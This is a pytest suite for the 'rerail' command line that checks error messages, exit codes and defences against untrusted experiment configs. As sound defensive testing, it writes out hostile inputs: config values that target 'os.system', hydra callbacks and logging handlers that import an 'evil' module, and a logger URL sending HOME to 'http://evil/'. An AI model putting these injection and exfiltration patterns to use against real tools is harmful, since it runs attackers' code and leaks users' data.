"""The command line as a person meets it: exit codes and sentences."""

import csv
import json
import os
import subprocess
import sys
from typing import NamedTuple

import pytest
from hydra.core.global_hydra import GlobalHydra

from rerail import __main__ as surface
from rerail.run import task


class Done(NamedTuple):
    code: int
    out: str
    err: str


@pytest.fixture
def rerail(tmp_path, monkeypatch, capfd):
    """Run the entry point in this process, as from a shell in an empty folder."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("RERAIL_DATA", raising=False)
    monkeypatch.setenv("RERAIL_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", True)

    def run(*words: str) -> Done:
        GlobalHydra.instance().clear()
        for name, value in (("started", False), ("failed", False), ("out", None)):
            monkeypatch.setattr(task.Outcome, name, value)
        monkeypatch.setattr(sys, "argv", ["rerail", *words])
        with pytest.raises(SystemExit) as exit_:
            surface.main()
        return Done(int(exit_.value.code or 0), *capfd.readouterr())

    return run


@pytest.mark.parametrize(
    ("word", "message"),
    [
        ("compresor=reap", "did you mean compressor?"),
        ("compressor=reapp", "hc_smoe"),
        ("calibration.blocks=3", "did you mean block?"),
        ("samples.cout=3", "did you mean samples.count?"),
        ("ratio.removed=1.5", "outside [0, 1)"),
        ("ratio.removed=0.9", "allowed ratios: 0 to 0.75"),
        ("seed=abc", "seed='abc' is not int"),
        ("distill.average=mean", "one of sequence, token"),
        ("distill.temperature=0", "must be greater than 0"),
        ("trainer.acelerator=cpu", "did you mean accelerator?"),
        ("model=deepseek_moe_16b_base", "not in transformers 5.23"),
        ("model=olmoe_1b_7b", "hub id"),
        ("evaluation=tasks", "RERAIL_DATA is not set"),
        ("evaluation=wikitext2", "RERAIL_DATA is not set"),
        ("allocation=per_layer", "must be given"),
        ("compressor.bases=3", "bases does not exist"),
        ("compressor.router=[slice]", "one of slice, mask; to sweep over several values, use -m"),
        ("ratio.removed=[0.25,0.5]", "use -m and commas"),
        ("seed=[1,2]", "seed=[1, 2] is not int; to sweep over several values, use -m"),
        ("evaluation.batch_size=[1]", "use -m and commas"),
        ("distill.epochs=[1,2]", "use -m and commas"),
        ("calibration.block=[64]", "use -m and commas"),
        ("model.path_or_id=[a,b]", "use -m and commas"),
        ("model.path_or_id={a: 1}", "model.path_or_id={'a': 1} is not str"),
        ("model.revision=[main]", "use -m and commas"),
        ("prompt=[a]", "prompt=['a'] is not str"),
        ("distill.learning_rate=inf", "is not a finite number"),
        ("distill.enabled=1", "distill.enabled=1 is not bool"),
        ("ratio=1.5", "swept by ratio, not by bits"),
        ("skip=2", "skip.share=2.0 is outside"),
        ("samples=1.5", "calibration.samples=1.5 is not int"),
        ("prompt=${oc.env:NO_SUCH}", "prompt: the environment variable NO_SUCH is not set"),
        ("prompt=${nowhere}", "nowhere"),
        ("experiments=seeds", "rerail -m +experiments=seeds"),
        ("+experiments=seeds", "runs with -m only: rerail -m +experiments=seeds"),
        ("+slurm=a100", "submits jobs and does so with -m only"),
        ("hydra/launcher=slurm", "submits jobs and does so with -m only"),
        ("++compressor._target_=os.system", "trust=PACKAGE"),
        ("logger._target_=os.system", "trust=PACKAGE"),
        ("trust=no/package", "trust='no/package' is not the name of a package"),
        ("+trainer.callbacks=[{_target_: os.system}]", "trainer.callbacks names a class"),
        ("trainer=gpu", "trainer.accelerator='gpu' needs a GPU"),
        ("trainer.precision=half", "trainer.precision='half' is not one of 64, 32, 16"),
        ("trainer.devices=2", "are for 2 processes here, and one was started"),
    ],
)
def test_bad_words_get_a_sentence_and_exit_status_2(rerail, tmp_path, word, message):
    done = rerail(word, "out=here")
    assert done.code == 2, done.err
    assert message in done.err
    assert "Traceback" not in done.err
    assert not list(tmp_path.glob("here/*"))


@pytest.mark.parametrize(
    ("claim", "message"),
    [
        ("trust: evil", "trust does not exist"),
        ("logger: {_target_: evil.touch}", "trust=PACKAGE"),
        ("model: {remote_code: true}", "sets model.remote_code"),
        ("model: ${hydra:sweeper.params.a}", "sets model,"),
        ("logger: {base_url: 'http://evil/${oc.env:HOME}'}", "sets logger.base_url"),
        ("hydra: {launcher: {setup: [touch ran]}}", "sets hydra.launcher.setup"),
        ("hydra: ${prompt}", "sets hydra,"),
        ("defaults: [theirs@hydra.callbacks]", "sets hydra.callbacks"),
        ("defaults: [{seeds@_global_.hydra: a}]", "sets hydra,"),
        ("hydra: {callbacks: {a: {_target_: evil.touch}}}", "sets hydra.callbacks"),
        ("hydra: {job_logging: {handlers: {a: {(): evil.touch}}}}", "sets hydra.job_logging"),
        ("hydra: {job: {env_set: {RERAIL_TRUST: evil}}}", "sets hydra.job.env_set"),
        ("defaults: [{override /hydra/job_logging: theirs}]", "sets hydra.job_logging"),
    ],
)
def test_the_claim_of_somebody_else_runs_no_code(rerail, tmp_path, monkeypatch, claim, message):
    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\ndef touch(): pass\n")
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "experiments").mkdir()
    (tmp_path / "experiments/theirs.yaml").write_text(f"# @package _global_\n{claim}\n")
    done = rerail("+experiments=theirs", "out=here")
    assert done.code == 2
    assert message in done.err
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("several", [[], ["-m"]])
@pytest.mark.parametrize("names", [("RANK", "WORLD_SIZE"), ("SLURM_PROCID", "SLURM_NTASKS")])
def test_a_rank_that_is_no_number_is_a_sentence(rerail, monkeypatch, names, several):
    for name, text in zip(names, ("first", "2"), strict=True):
        monkeypatch.setenv(name, text)
    done = rerail(*several, "out=here")
    assert done.code == 2
    assert f"{names[0]}='first' is not a number of processes" in done.err
    assert "Traceback" not in done.err


def claim(tmp_path, text, header="_global_"):
    (tmp_path / "experiments").mkdir(exist_ok=True)
    (tmp_path / "experiments/theirs.yaml").write_text(f"# @package {header}\n{text}\n")


@pytest.mark.parametrize("header", ["hydra.callbacks.a", "hydra", "_global_.hydra", "hydra.job"])
def test_nor_does_one_that_says_where_it_belongs(rerail, tmp_path, header):
    claim(tmp_path, "_target_: evil.touch", header)
    done = rerail("+experiments=theirs", "out=here")
    assert (done.code, "sets hydra" in done.err) == (2, True)


def test_numbers_of_a_claims_grid_and_fields_without_a_default_are_as_on_the_command_line(
    rerail, tmp_path
):
    claim(
        tmp_path,
        "hydra: {sweeper: {params: {ratio: '0.9,0.95', samples: 64, compressor.router: mask}}}",
    )
    done = rerail("-m", "+experiments=theirs", "out=here")
    assert "Traceback" not in done.err
    rows = [row for p in (tmp_path / "here").glob("tiny*/result.json") for row in load(p)]
    assert {(row["ratio"], row["samples"]) for row in rows} == {(0.9, 64), (0.95, 64)}
    assert all("compressor.router=mask" in row["choices"]["command"] for row in rows)


def load(path):
    return json.loads(path.read_text())


@pytest.mark.parametrize("several", [[], ["-m"]])
@pytest.mark.parametrize(
    ("word", "message"),
    [
        ("+anything=1", "anything does not exist; allowed: model"),
        ("+samples.foo=1", "samples.foo does not exist"),
        ("+debug.foo=1", "debug.foo does not exist"),
        ("out=${oc.env:NO_SUCH}", "out: the environment variable NO_SUCH is not set"),
        ("hydra.run.dir=${nowhere}", "hydra.run.dir: Interpolation key 'nowhere'"),
        ("hydra.launcher._target_=os.system", "'os.system'"),
        ("compressor=[reap,svd]", "use -m and commas: -m compressor=A,B"),
        ("skip=[0.5,0.25]", "use -m and commas: -m skip=A,B"),
        ("compresor=reap", "did you mean compressor?"),
    ],
)
def test_what_hydra_does_not_refuse_or_with_a_traceback_is_a_sentence(
    rerail, word, message, several
):
    if (several and "hydra.run" in word) or (not several and "launcher" in word):
        pytest.skip("is not read")
    done = rerail(*several, word, "ratio.removed=0.9")
    assert done.code == 2, done.err
    assert message in done.err
    assert "Traceback" not in done.err
    assert "To append to" not in done.err


def test_one_hint_for_a_claim_without_a_plus(rerail):
    err = rerail("experiments=seeds", "out=here").err
    assert "does not exist" not in err
    assert "allowed here" not in err


SECRET = "a<b&c'd\"e-12345"


def test_a_secret_stays_in_its_variable(rerail, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", SECRET)
    for words in (
        ["distill=none", "prompt=${oc.env:HF_TOKEN}"],
        ["-m", "distill=none", "prompt=${oc.env:HF_TOKEN}"],
        ["seed=${oc.env:HF_TOKEN}"],
        ["-m", "seed=${oc.env:HF_TOKEN}"],
    ):
        done = rerail("debug=fast", "samples=12", "evaluation.new_tokens=2", "out=here", *words)
        assert not [text for text in (done.out, done.err) if leaks(text)], words
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {"result.json", "results.csv", "config.json", "status.json", "report.html"} <= {
        path.name for path in files
    }
    assert not [p for p in files if leaks(p.read_bytes().decode(errors="replace"))]
    [row, *_] = json.loads(next((tmp_path / "here").glob("tiny*/result.json")).read_text())
    assert row["prompt"] == "(hidden)"
    assert "'prompt=${oc.env:HF_TOKEN}'" in row["choices"]["command"]


def leaks(text: str) -> bool:
    return SECRET in text or ("a<b" in text and "12345" in text) or "e-12345" in text


def test_help_comes_without_torch_and_a_real_process_exits_with_2(tmp_path):
    for name in ("torch", "transformers", "lightning"):
        (tmp_path / f"{name}.py").write_text(f"raise SystemExit('{name} was imported')")
    environment = os.environ | {"PYTHONPATH": f"{tmp_path}:{os.environ.get('PYTHONPATH', '')}"}
    for words, code, message in (
        (["--help"], 0, "compressor"),
        (["compresor=reap"], 2, "did you mean"),
    ):
        command = [sys.executable, "-m", "rerail", *words]
        done = subprocess.run(
            command, capture_output=True, text=True, cwd=tmp_path, env=environment, check=False
        )
        assert done.returncode == code, done.stderr
        assert message in done.stdout + done.stderr


def test_a_grid_runs_on_after_a_bad_cell_and_exits_with_2(rerail, tmp_path):
    text = tmp_path / "words.txt"
    text.write_text("A quick brown fox jumps over the lazy dog. " * 400)
    words = ["-m", "ratio.removed=0.25,1.5,0.9", "out=here", "distill=none", "samples.count=8"]
    words += [f"calibration.sources.0.paths=[{text}]", "calibration=files", "evaluation=file"]
    words += [f"evaluation.texts.file.sources.0.paths=[{text}]", "evaluation.new_tokens=4"]
    words += ["evaluation.texts.file.samples=4", "evaluation.texts.file.block=32"]
    done = rerail(*words, "calibration.block=32")
    assert done.code == 2, done.err
    assert "outside [0, 1)" in done.err
    with (tmp_path / "here/results.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["status"] for r in rows) == ["done", "done", "failed", "not_applicable"]
    assert [r["stage"] for r in rows if r["status"] == "done"] == ["teacher", "compressed"]
    assert done.out.strip().splitlines()[-1] == f"report: {tmp_path / 'here/report.html'}"
    wanted = {"model", "compressor", "ratio", "seed", "stage", "nll", "nll_se", "tokens", "kl"}
    assert wanted | {"bytes", "recovery", "seconds"} <= set(rows[0])
    results = [json.loads(p.read_text()) for p in (tmp_path / "here").glob("*/result.json")]
    commands = [row["choices"]["command"] for rows in results for row in rows]
    assert all("ratio.removed=" in c and "out=" not in c for c in commands)


def test_the_same_cell_twice_in_a_grid_runs_once_and_an_unknown_profile_lists_those_there_are(
    rerail, tmp_path
):
    done = rerail("-m", "ratio.removed=1.5,1.5", "seed=0", "out=here")
    assert done.code == 2
    cells = [json.loads(p.read_text()) for p in (tmp_path / "here/sweeps").glob("*/cells.json")]
    assert [len(one["cells"]) for one in cells] == [1]
    unknown = rerail("-m", "+slurm=nowhere", "out=here")
    assert unknown.code == 2
    assert all(name in unknown.err for name in ("a100", "a100x8", "a100x8x2", "local"))
    wrong = rerail("-m", "seed=0", "hydra.launcher.executor=moon", "out=here")
    assert (wrong.code, wrong.err) == (
        2,
        "rerail: hydra.launcher.executor='moon' is not one of here, slurm\n",
    )


def test_the_package_folder_is_found_from_anywhere(rerail):
    assert "conf" in rerail("--info", "searchpath").out
